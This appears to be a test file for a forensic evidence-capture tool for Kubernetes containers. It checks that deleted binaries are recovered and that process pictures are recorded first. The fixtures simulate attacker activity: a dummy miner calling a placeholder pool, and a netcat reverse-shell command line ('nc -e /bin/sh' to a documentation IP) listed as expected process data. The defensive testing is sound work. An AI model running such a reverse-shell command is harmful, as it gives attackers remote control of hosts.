import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { isAbsolute, join } from 'node:path';
import { MockActivityEnvironment } from '@temporalio/testing';
import { startTestLab } from '../../test/lab-harness';
import { CaseStore } from '../cases/case-store';
import { EmbeddedDatabase } from '../cases/database';
import { LocalEvidenceStore } from '../cases/evidence-store';
import { createCloudClients, type CloudClients } from '../cloud';
import { defaultCaptureImage } from '../config/config';
import { parseFindingObject } from '../findings/parse';
import type { Finding, GkeSubject } from '../findings/model';
import type { ProcessPicture } from '../forensics/process-picture';
import type { Lab } from '../lab/server';
import { loadScenario, type Scenario } from '../lab/scenario';
import { captureActivities, type CaptureResult } from './capture';

/**
 * What the attacker left running: a binary deleted after it started, read back through the
 * process that still maps it; a pid the container does not know, found by executable and start;
 * and the live picture of processes and connections, taken before anything else.
 */

const minerBytes = Buffer.from('\x7fELF miner, unlinked after start\n'.repeat(40), 'latin1');
const kworkerdPath = '/tmp/.cache/kworkerd';
const eventTime = '2026-11-20T14:02:11.482Z';

function scenario(): Scenario {
  const s = loadScenario();
  const workload = (name: string) => s.clusters[0]!.workloads.find((w) => w.name === name)!;
  // The shell image's dropped binary is deleted after it ran.
  const api = workload('checkout-api').pods.find((p) => p.name === 'checkout-api-7d9f8b6c5-x2k8q')!;
  api.processes.find((p) => p.exe === kworkerdPath)!.unlinked = true;
  // The distroless agent runs a dropped miner twice: once before the finding, once after; both unlinked.
  const agent = workload('node-agent').pods[0]!;
  agent.addedFiles = { agent: { '/tmp/.x/miner': { base64: minerBytes.toString('base64'), mode: '755' } } };
  const started = (offsetS: number) => new Date(Date.parse(eventTime) + offsetS * 1000).toISOString();
  agent.processes.push(
    { container: 'agent', pid: 300, ppid: 1, exe: '/tmp/.x/miner', args: ['/tmp/.x/miner', '--pool', 'pool.bad.example:3333'], startedAt: started(-60), unlinked: true, connections: [{ protocol: 'tcp', remote: '203.0.113.77:3333', state: 'ESTABLISHED' }] },
    { container: 'agent', pid: 301, ppid: 1, exe: '/tmp/.x/miner', args: ['/tmp/.x/miner'], startedAt: started(600), unlinked: true },
  );
  return s;
}

let lab: Lab;
let store: CaseStore;
let clients: CloudClients;
let evidenceDir: string;
let capture: ReturnType<typeof captureActivities>['captureEvidence'];
const env = new MockActivityEnvironment();

beforeAll(async () => {
  const started = await startTestLab({ scenario: scenario() });
  lab = started.lab;
  clients = createCloudClients(started.target);
  store = new CaseStore(await EmbeddedDatabase.open());
  await store.migrate();
  evidenceDir = mkdtempSync(join(tmpdir(), 'scc-capture-'));
  capture = captureActivities({
    clients,
    store,
    evidence: new LocalEvidenceStore(evidenceDir),
    virusTotal: undefined as never,
    notifier: undefined as never,
    collector: 'capture-test',
    maxArtifactBytes: 1024 * 1024,
    captureImage: defaultCaptureImage,
    decisionRules: { keys: [], fourEyes: false, autoContain: null },
  }).captureEvidence;
});

afterAll(async () => {
  await clients?.close();
  await store?.db.close();
  await lab?.stop();
});

function scenarioFinding(category: string): Finding {
  return parseFindingObject(lab.scenario.findings.find((f) => String(f.finding.category) === category && String(f.finding.resourceName).includes('container.googleapis'))!).finding;
}

function findingOn(namespace: string, pod: string, container: string, path: string, pid: number | undefined, bytes: Buffer): Finding {
  const base = scenarioFinding('Defense Evasion: Launch Code Compiler Tool In Container');
  return {
    ...base,
    eventTime,
    subject: { ...(base.subject as GkeSubject), namespace, pod, container },
    processes: [{ binary: { path, sha256: createHash('sha256').update(bytes).digest('hex'), partiallyHashed: false }, args: [path], argsTruncated: false, ...(pid ? { pid } : {}) }],
  };
}

async function run(caseId: string, finding: Finding): Promise<{ result: CaptureResult; record: NonNullable<Awaited<ReturnType<CaseStore['getCase']>>> }> {
  await store.openCase({ caseId, workflowId: `wf-${caseId}`, runId: `run-${caseId}`, subjectKey: caseId, finding, dryRun: false, openedAt: new Date().toISOString() });
  const result: CaptureResult = await env.run(capture, { caseId, subject: finding.subject as GkeSubject, findings: [finding] });
  return { result, record: (await store.getCase(caseId))! };
}

function pictureOf(record: Awaited<ReturnType<typeof run>>['record']): ProcessPicture {
  const artifact = record.evidence.find((e) => e.kind === 'process-picture')!;
  const bytes = readFileSync(isAbsolute(artifact.storage_path) ? artifact.storage_path : join(evidenceDir, artifact.storage_path));
  expect(createHash('sha256').update(bytes).digest('hex')).toBe(artifact.sha256);
  return JSON.parse(bytes.toString('utf8')) as ProcessPicture;
}

test('a binary deleted after it ran is read back through /proc/PID/exe in a shell image, and its custody says so', async () => {
  const finding = scenarioFinding('Added Binary Executed');
  const { result, record } = await run('case-0000000000e1', { ...finding, eventTime });
  const binary = record.evidence.find((e) => e.kind === 'binary')!;
  // The finding hashed a prefix of the file: that prefix matches.
  expect(binary).toMatchObject({ hash_check: 'partial-match', finding_sha256: finding.processes[0]!.binary!.sha256 });
  expect(binary.source).toMatchObject({ path: kworkerdPath, pid: 48377, method: `container api: cat /proc/48377/exe (the file at ${kworkerdPath} was deleted after it started, read from the running process)` });
  expect(result.sha256s).toEqual([binary.sha256]);
  const picture = pictureOf(record);
  expect(picture.processes.find((p) => p.pid === 48377)).toMatchObject({ role: 'suspect', exe: { path: kworkerdPath, deleted: true }, cmdline: [kworkerdPath, '-B'] });
});

test('distroless, deleted, and a pid the container does not know: the helper finds the process by its executable and start, and reads /proc/PID/exe', async () => {
  const finding = findingOn('kube-system', 'node-agent-8xq2v', 'agent', '/tmp/.x/miner', 912_345, minerBytes);
  const { result, record } = await run('case-0000000000e2', finding);
  const binary = record.evidence.find((e) => e.kind === 'binary')!;
  expect(binary.hash_check).toBe('match');
  const method = (binary.source as { method: string }).method;
  expect(method).toContain(`ephemeral container scc-capture-0000000000e2 (${defaultCaptureImage}): cat /proc/300/exe (the file at /tmp/.x/miner was deleted after it started`);
  expect(method).toContain("the finding's pid 912345 is not this process in the container: pid 300 found by its executable /tmp/.x/miner and its start at 2026-11-20T14:01:11.");
  expect(method).toContain('(of 2 running it)');
  expect(binary.source).toMatchObject({ pid: 300 });
  expect(result.remoteAddresses).toEqual(['203.0.113.77']);
  expect(pictureOf(record).connections).toEqual([{ pid: 300, fd: 3, protocol: 'tcp', local: expect.stringMatching(/^10\.\d+\.\d+\.\d+:40000$/), remote: '203.0.113.77:3333', state: 'ESTABLISHED' }]);
});

test('a netcat reverse shell: the picture, taken first, names the peer on the other end, the shell that started it and the shell it serves', async () => {
  const finding = scenarioFinding('Execution: Netcat Remote Code Execution In Container');
  const { result, record } = await run('case-0000000000e3', finding);
  const picture = pictureOf(record);
  expect(picture.processes.map((p) => [p.pid, p.role, p.cmdline?.join(' ')])).toEqual([
    [1, 'ancestor', 'postgres'],
    [7702, 'ancestor', 'sh -c nc -e /bin/sh 198.51.100.23 4444'],
    [7781, 'suspect', 'nc -e /bin/sh 198.51.100.23 4444'],
    [7790, 'descendant', '/bin/sh'],
  ]);
  expect(picture.connections).toEqual([expect.objectContaining({ pid: 7781, remote: '198.51.100.23:4444', state: 'ESTABLISHED' })]);
  expect(result.remoteAddresses).toEqual(['198.51.100.23']);
  expect(result.summary).toMatch(/^process picture: 4 process\(es\), 1 connection\(s\), talking to 198\.51\.100\.23; /);
  // Volatile first: the picture is recorded before any file.
  expect(record.evidence.map((e) => e.kind)[0]).toBe('process-picture');
  expect(record.evidence.find((e) => e.kind === 'process-picture')).toMatchObject({ parent_sha256: finding.intake.rawSha256, source: expect.objectContaining({ method: expect.stringMatching(/^container postgres: ls, cat and readlink of \/proc, read at /) }) });
});

test('a process that has exited and a file that is gone: a recorded gap, not a guess', async () => {
  const finding = findingOn('kube-system', 'node-agent-8xq2v', 'agent', '/tmp/.x/long-gone', undefined, minerBytes);
  const { result, record } = await run('case-0000000000e4', finding);
  expect(result.summary).toContain('/tmp/.x/long-gone: no shell in the image and no running process to reach the file through /proc');
  expect(record.timeline).toEqual([expect.objectContaining({ kind: 'capture-gap', outcome: 'no-shell' })]);
  expect(pictureOf(record).notes).toEqual(['no running process matches /tmp/.x/long-gone: it has exited']);
});
